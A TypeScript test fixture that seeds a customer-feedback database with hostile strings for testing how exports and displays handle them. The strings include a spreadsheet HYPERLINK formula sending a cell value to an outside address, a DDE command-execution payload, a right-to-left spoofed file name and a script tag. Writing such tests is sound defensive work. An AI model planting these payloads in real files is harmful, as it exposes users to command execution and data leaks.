import { randomUUID } from 'node:crypto';
import type { Database } from '@koe/sql/server/database';

/** Texts that break what writes or opens a file carelessly. */
export const HOSTILE = [
  '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '＝１＋１',
  'a,"b";c\r\nd\ne',
  '\u202egnp.exe\u202c と \u2066隔離\u2069',
  'bell \u0007 escape \u001b[31m vertical \u000b unit \u001f',
  '<script>alert(1)</script> ]]> &amp; _x000A_ <!--',
  '絵文字 😀👨‍👩‍👧 と 𠮷野家 ① ㈱ 〜 − ¥',
  'עברית ثم العربية',
  `${'長'.repeat(40_000)}終`,
  ` 前後の空白 `,
  '-0.5',
] as const;

/** Writes one live item for each hostile text, which also stands in its attributes, note, question and source's name. */
export async function writeHostileItems(
  database: Database,
  at = new Date('2026-03-10T15:30:45.123Z'),
): Promise<string[]> {
  const ids: string[] = [];
  for (const [index, text] of HOSTILE.entries()) {
    const id = randomUUID();
    ids.push(id);
    const createdAt = new Date(at.getTime() + index * 60_000);
    await database.query(
      `insert into item (item_id, source_id, item_key, revision, content_hash, input_hash, batch_id, kind, channel, created_at, lang,
         attributes, scores, is_conversation, has_voice, stored_at, url, resolved_at, first_reply_seconds)
       values ($1, $1, $2, 1, '', '', $1, 'survey', 'review', $3, 'ja', $4, $5, false, true, $3, 'https://shop.example.com/?q=1', $3, 61)`,
      [id, text.slice(0, 200), createdAt, { note: text }, JSON.stringify([{ kind: 'csat', value: 4, min: 1, max: 5 }])],
    );
    await database.query(
      `insert into part (item_id, position, key, role, text, lang, question) values
         ($1, 0, 'q1', 'customer', $2, 'ja', $3), ($1, 1, 'a', 'agent', '担当者の返事', 'ja', null), ($1, 2, 'q2', 'customer', '二つ目', 'ja', null)`,
      [id, text, text.slice(0, 100)],
    );
    await database.query(
      `insert into classification (item_id, revision, classifier_version, sentiment, sentiment_label, intent, priority, priority_score, reasons, at)
       values ($1, 1, 'v1', -0.25, 'negative', 'complaint', 'P2', 0.5, '[{"reason":"complaint","weight":0.2},{"reason":"churn","weight":0.3}]', $2)`,
      [id, createdAt],
    );
    await database.query(
      `insert into handling (item_id, changed_at, change_id, state, due_on, note) values ($1, $2, $1, 'in_hand', '2026-04-01', $3)`,
      [id, createdAt, text],
    );
    await database.query(
      `insert into item_index (item_id, revision, classifier_version, source_id, created_at, local_day, kind, channel, lang, product,
         segments, intent, sentiment, priority, themes, theme_paths, handling, due_on, reply_s, reply_business_s, resolve_s, handle_s,
         first_contact, is_contact, voice, search_text, grams)
       values ($1, 1, 'v1', $1, $2, 20523, 'survey', 'review', 'ja', $3, $4, 'complaint', 'negative', 'P2', '{85,91}', '{21,22}',
         'in_hand', '2026-04-01', 61, -2, 0, -2, -1, true, true, '', '{}')`,
      [id, createdAt, text.slice(0, 100), [text.slice(0, 100), null, 'east']],
    );
  }
  return ids;
}
